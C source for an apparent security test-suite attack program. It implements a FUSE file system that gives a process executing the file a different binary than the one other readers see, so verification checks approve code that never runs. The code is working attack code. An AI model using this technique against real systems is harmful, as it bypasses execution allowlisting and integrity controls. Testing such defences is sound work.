/* Row 7: a file system in the attacker's own process. Its one file is the stranger's program for whoever executes it and
 * the approved program for everybody else who reads it. Mounting is what fusermount3, set-user-id, does for any user;
 * where the suite runs as root it does that part itself and then becomes the attacker.
 *
 *   attack-fuse SOCKET TRIES APPROVED STRANGER MOUNTPOINT USER      (the two files have the same size)
 */
#include "attack-common.h"
#include <linux/fuse.h>
#include <sys/mount.h>
#include <sys/uio.h>

static int device, approved_file, stranger_file;
static struct stat shape;
static pid_t executor;

static void reply(uint64_t unique, int error, const void *data, size_t size)
{
    struct fuse_out_header header = { .len = (uint32_t)(sizeof header + size), .error = -error, .unique = unique };
    struct iovec parts[2] = { { &header, sizeof header }, { (void *)data, size } };
    if (writev(device, parts, size ? 2 : 1) < 0 && errno != ENOENT)
        die("reply");
}

static struct fuse_attr attributes(uint64_t node)
{
    struct fuse_attr a = { .ino = node, .nlink = 1, .uid = getuid(), .gid = getgid() };
    a.mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0755;
    a.size = node == 1 ? 0 : (uint64_t)shape.st_size;
    a.blocks = (a.size + 511) / 512;
    a.blksize = 4096;
    return a;
}

static void serve_one(void)
{
    static char buffer[1 << 20], data[1 << 20];
    ssize_t count = read(device, buffer, sizeof buffer);
    struct fuse_in_header *in = (struct fuse_in_header *)buffer;
    void *body = in + 1;
    if (count < (ssize_t)sizeof *in)
        return;
    int is_executor = (pid_t)in->pid == executor;
    switch (in->opcode) {
    case FUSE_INIT: {
        struct fuse_init_out out = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_readahead = 65536, .max_write = 65536, .max_background = 16 };
        reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_LOOKUP: {
        struct fuse_entry_out out = { .nodeid = 2, .entry_valid = 60, .attr_valid = 60, .attr = attributes(2) };
        if (strcmp(body, "program"))
            reply(in->unique, ENOENT, NULL, 0);
        else
            reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_GETATTR: {
        struct fuse_attr_out out = { .attr_valid = 60, .attr = attributes(in->nodeid) };
        reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_OPEN: {
        /* Whoever only reads gets its bytes past the page cache, which the running program lives in. */
        struct fuse_open_out out = { .fh = (uint64_t)is_executor, .open_flags = is_executor ? 0 : FOPEN_DIRECT_IO | FOPEN_KEEP_CACHE };
        reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_OPENDIR: {
        struct fuse_open_out out = { 0 };
        reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_READ: {
        struct fuse_read_in *r = body;
        ssize_t got = pread(r->fh == 1 ? stranger_file : approved_file, data, r->size, (off_t)r->offset);
        reply(in->unique, got < 0 ? EIO : 0, data, got < 0 ? 0 : (size_t)got);
        break;
    }
    case FUSE_STATFS: {
        struct fuse_statfs_out out = { .st = { .bsize = 4096, .namelen = 255, .frsize = 4096 } };
        reply(in->unique, 0, &out, sizeof out);
        break;
    }
    case FUSE_FORGET:
    case FUSE_BATCH_FORGET:
    case FUSE_INTERRUPT:
        break;
    case FUSE_RELEASE:
    case FUSE_RELEASEDIR:
    case FUSE_FLUSH:
    case FUSE_ACCESS:
        reply(in->unique, 0, NULL, 0);
        break;
    default:
        reply(in->unique, ENOSYS, NULL, 0);
    }
}

int main(int count, char **arguments)
{
    char options[128], program[4096];
    if (count < 7)
        return 2;
    approved_file = open(arguments[3], O_RDONLY | O_CLOEXEC);
    stranger_file = open(arguments[4], O_RDONLY | O_CLOEXEC);
    uid_t user = (uid_t)atoi(arguments[6]);
    device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=%u,group_id=%u", device, user, user);
    snprintf(program, sizeof program, "%s/program", arguments[5]);
    if (approved_file < 0 || stranger_file < 0 || fstat(approved_file, &shape) != 0 || device < 0
        || mount("attacker", arguments[5], "fuse", MS_NOSUID | MS_NODEV, options) != 0)
        die("fuse");
    pid_t server = fork();
    if (server != 0) {
        waitpid(server, NULL, 0);
        umount2(arguments[5], MNT_DETACH);
        return 0;
    }
    become(user);
    for (int tries = atoi(arguments[2]); tries > 0; tries--) {
        int go[2];
        char c = 'g';
        if (pipe2(go, O_CLOEXEC) != 0)
            die("pipe");
        executor = fork();
        if (executor == 0) {
            if (read(go[0], &c, 1) != 1)
                die("go");
            execl(program, program, arguments[1], "once", (char *)NULL);
            die("exec");
        }
        int ended = (int)syscall(SYS_pidfd_open, executor, 0);
        if (ended < 0 || write(go[1], &c, 1) != 1)
            die("go");
        for (;;) {
            struct pollfd wait[2] = { { device, POLLIN, 0 }, { ended, POLLIN, 0 } };
            if (poll(wait, 2, -1) < 0)
                die("poll");
            if (wait[0].revents)
                serve_one();
            else if (wait[1].revents)
                break;
        }
        waitpid(executor, NULL, 0);
        close(ended);
        close(go[0]);
        close(go[1]);
    }
    return 0;
}
